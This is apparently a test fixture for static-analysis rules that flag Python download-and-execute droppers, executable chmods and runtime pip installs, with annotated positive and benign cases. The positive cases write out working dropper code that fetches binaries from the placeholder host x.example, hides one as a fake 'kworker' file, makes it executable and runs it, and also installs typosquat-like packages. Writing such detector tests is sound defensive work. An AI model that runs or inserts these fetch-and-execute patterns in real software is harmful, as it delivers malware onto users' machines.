# ruff: noqa
# fmt: off
import os
import pathlib
import stat
import subprocess
import urllib.request

import requests


def dropper():
    urllib.request.urlretrieve("http://x.example/bin", "/tmp/x")
    # ruleid: py-write-then-execute, py-chmod-executable
    os.chmod("/tmp/x", 0o755)
    # ruleid: py-write-then-execute
    subprocess.Popen(["/tmp/x"])


def dropper2():
    path = "/tmp/.cache/kworker"
    data = requests.get("http://x.example/k").content
    with open(path, "wb") as f:
        f.write(data)
    # ruleid: py-write-then-execute, py-chmod-executable
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    # ruleid: py-write-then-execute
    os.system(path)


def dropper3(blob):
    p = pathlib.Path("/dev/shm/x")
    p.write_bytes(blob)
    # ruleid: py-path-write-then-execute, py-chmod-executable
    p.chmod(0o700)


def installs():
    # ruleid: py-runtime-package-install
    subprocess.check_call(["python", "-m", "pip", "install", "requests-extra"])
    # ruleid: py-runtime-package-install
    os.system("pip install colourama")


def benign(event):
    out = "/tmp/in.png"
    with open(out, "wb") as f:
        f.write(requests.get(event["url"]).content)
    # ok: py-write-then-execute
    subprocess.run(["convert", out, "-resize", "50%", "/tmp/out.png"], check=True, capture_output=True)
    # ok: py-write-then-execute, py-chmod-executable
    os.chmod(out, 0o644)
    # ok: py-chmod-executable
    os.chmod("/tmp/secret.json", 0o600)
    src = pathlib.Path("/tmp/in.wav")
    src.write_bytes(requests.get(event["audio"]).content)
    # ok: py-write-then-execute, py-path-write-then-execute
    subprocess.run(["ffmpeg", "-i", str(src), "/tmp/out.mp3"], capture_output=True, check=True)
    # ok: py-path-write-then-execute
    src.chmod(0o644)
    # ok: py-runtime-package-install
    subprocess.run(["pip", "--version"], capture_output=True, check=True)
    return open("/tmp/out.png", "rb").read()
